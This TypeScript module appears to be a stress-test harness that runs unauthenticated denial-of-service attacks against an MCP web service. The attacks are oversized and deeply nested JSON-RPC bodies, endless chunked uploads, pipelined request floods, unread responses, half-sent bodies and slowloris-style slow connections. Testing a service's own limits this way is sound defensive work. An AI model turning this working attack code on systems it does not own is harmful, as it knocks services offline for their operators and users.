/** Attacks that need no key. Each runs until a given time, and says what it met. */

import { setTimeout } from 'node:timers/promises';
import type { Place } from './place.ts';
import { head, Sockets, write } from './sockets.ts';

/** Attacks a service until a time of performance.now(); resolves with what the attacker saw, in a few words. */
export type Attack = (place: Place, until: number) => Promise<string>;

const MCP = { Accept: 'application/json' };
const KIB = 1024;

export const rpc = (method: string, params: object): string =>
  JSON.stringify({ jsonrpc: '2.0', id: 1, method, params });

const client = (capabilities: object, more: object): object => ({
  protocolVersion: '2025-11-25',
  capabilities,
  clientInfo: { name: 'siege', version: '1', ...more },
});

const keys = (count: number): Record<string, number> =>
  Object.fromEntries(Array.from({ length: count }, (_, n) => [`k${n}`, 1]));

/** Says how often each status came. */
export function tally(statuses: readonly (number | string)[]): string {
  const counts = new Map<number | string, number>();
  for (const status of statuses) counts.set(status, (counts.get(status) ?? 0) + 1);
  return [...counts].map(([status, count]) => `${status} × ${count}`).join(', ');
}

/** Messages of few bytes and many parts, two at a time. */
export const messages: Attack = async ({ url }, until) => {
  const bodies = [
    rpc('initialize', client({}, { icons: Array(200_000).fill(1) })),
    rpc('initialize', client({ experimental: keys(25_000) }, {})),
    rpc('ping', keys(25_000)),
    // This fits into every bound.
    rpc('initialize', client({}, { icons: Array(500).fill(1) })),
    rpc('ping', { a: Array(200_000).fill(1) }),
    `{"jsonrpc":"2.0","id":1,"method":"ping","params":{"a":${'['.repeat(200_000)}${']'.repeat(200_000)}}}`,
  ];
  const statuses: number[] = [];
  const send = async (first: number): Promise<void> => {
    for (let n = first; performance.now() < until; n++) {
      const headers = { ...MCP, 'content-type': 'application/json' };
      const body = bodies[n % bodies.length] as string;
      const answer = await fetch(`${url}/mcp`, { method: 'POST', headers, body });
      await answer.arrayBuffer();
      statuses.push(answer.status);
    }
  };
  await Promise.allSettled([send(0), send(3)]);
  return tally(statuses);
};

/** Eight bodies in chunks of one byte, which come as fast as they are read and have no end. */
export const drops: Attack = async ({ port }, until) => {
  const sockets = new Sockets(port);
  const piece = Buffer.from('1\r\nx\r\n'.repeat(10_000));
  let sent = 0;
  const send = async (): Promise<void> => {
    const socket = sockets.dial();
    socket.write(head('POST /mcp', { ...MCP, 'Transfer-Encoding': 'chunked' }));
    for (let n = 0; n < 40; n++) {
      if (!(await write(socket, piece, until))) return;
      sent += piece.length;
    }
    await setTimeout(until - performance.now());
  };
  await Promise.all(Array.from({ length: 8 }, send));
  sockets.end();
  return `${(sent / 2 ** 20).toFixed(0)} MiB written on 8 connections`;
};

/** 200 connections with 2,600 requests in a packet each, whose answers nobody reads. */
export const pipelines: Attack = async ({ port }, until) => {
  const sockets = new Sockets(port);
  const packet = head('GET /openapi.json')
    .repeat(2600)
    .slice(0, 64 * KIB);
  for (let n = 0; n < 200 && performance.now() < until; n++) {
    sockets.dial().write(packet);
    await setTimeout(10);
  }
  await setTimeout(Math.max(0, until - performance.now()));
  sockets.end();
  return '200 connections';
};

/** Eight bodies of 64 MiB that nobody asked for: four of a GET, four that are refused because they have no key. */
export const floods: Attack = async ({ port }, until) => {
  const sockets = new Sockets(port);
  const piece = Buffer.alloc(256 * KIB, ' ');
  let sent = 0;
  const send = async (_: unknown, n: number): Promise<void> => {
    const socket = sockets.dial().resume();
    const line = n % 2 === 0 ? 'GET /health' : 'POST /v1/tutor';
    socket.write(head(line, { 'Content-Length': 256 * piece.length }));
    while (sent < 2048 * piece.length && (await write(socket, piece, until))) sent += piece.length;
  };
  await Promise.all(Array.from({ length: 8 }, send));
  await setTimeout(Math.max(0, until - performance.now()));
  sockets.end();
  return `${(sent / 2 ** 20).toFixed(0)} MiB written on 8 connections`;
};

/** 500 connections that ask for the longest page four times each, over MCP and without a key, and read nothing. */
export const unread: Attack = async ({ url, port }, until) => {
  const asked = { method: 'POST', headers: { ...MCP, 'content-type': 'application/json' } };
  const list = await fetch(`${url}/mcp`, { ...asked, body: rpc('resources/list', {}) });
  const { result } = (await list.json()) as { result: { resources: { uri: string; size: number }[] } };
  const [longest] = result.resources.toSorted((one, other) => other.size - one.size);
  const sockets = new Sockets(port);
  const body = rpc('resources/read', { uri: longest?.uri });
  const one = `${head('POST /mcp', { ...MCP, 'Content-Length': body.length })}${body}`;
  for (let n = 0; n < 500 && performance.now() < until; n++) {
    sockets.dial().write(one.repeat(4));
    await setTimeout(4);
  }
  await setTimeout(Math.max(0, until - performance.now()));
  sockets.end();
  return '500 connections';
};

/** Prompts and readings of the longest texts that strangers may send, 16 at a time. */
export const texts: Attack = async ({ url }, until) => {
  const text = `ἄνθρωπος${','.repeat(22)} `.repeat(64);
  const body = rpc('prompts/get', { name: 'practise_word', arguments: { word: text } });
  const asked = { method: 'POST', headers: { ...MCP, 'content-type': 'application/json' }, body };
  const path = `${url}/v1/reading?target=${encodeURIComponent(text)}`;
  const statuses: number[] = [];
  const send = async (_: unknown, n: number): Promise<void> => {
    while (performance.now() < until) {
      const answer = await (n % 2 === 0 ? fetch(`${url}/mcp`, asked) : fetch(path));
      await answer.arrayBuffer();
      statuses.push(answer.status);
    }
  };
  await Promise.allSettled(Array.from({ length: 16 }, send));
  return tally(statuses);
};

/** 1,500 bodies without their end, each sent in one go: some declare their 400 KiB, the others come in chunks. */
export const halves: Attack = async ({ port }, until) => {
  const sockets = new Sockets(port);
  const size = 400 * KIB;
  const told = head('POST /mcp', { ...MCP, 'Content-Length': size });
  const chunked = head('POST /mcp', { ...MCP, 'Transfer-Encoding': 'chunked' });
  const most = Buffer.alloc(size - 1, ' ');
  // A little less than the service reads without a key.
  const chunk = Buffer.from(`${(63 * KIB).toString(16)}\r\n${' '.repeat(63 * KIB)}\r\n`);
  const send = async (_: unknown, n: number): Promise<void> => {
    const socket = sockets.dial();
    socket.write(n % 4 === 0 ? told : chunked);
    await write(socket, n % 4 === 0 ? most : chunk, until);
  };
  for (let n = 0; n < 150 && performance.now() < until; n++) {
    await Promise.all(Array.from({ length: 10 }, send));
  }
  await setTimeout(Math.max(0, until - performance.now()));
  sockets.end();
  return '1,500 bodies';
};

/** 5,000 connections, each with a body that comes a byte at a time, slowly; a closed connection is opened again. */
export const crawlers: Attack = async ({ port }, until) => {
  const sockets = new Sockets(port);
  let opened = 0;
  const crawl = async (): Promise<void> => {
    while (performance.now() < until) {
      const socket = sockets.dial();
      opened++;
      socket.write(head('POST /mcp', { ...MCP, 'Content-Length': 1000 }));
      while (await write(socket, ' ', until)) await setTimeout(2000);
      await setTimeout(1000);
    }
  };
  const all: Promise<void>[] = [];
  for (let n = 0; n < 5000 && performance.now() < until; n++) {
    all.push(crawl());
    if (n % 20 === 19) await setTimeout(20);
  }
  await Promise.all(all);
  sockets.end();
  return `${opened} connections were opened`;
};
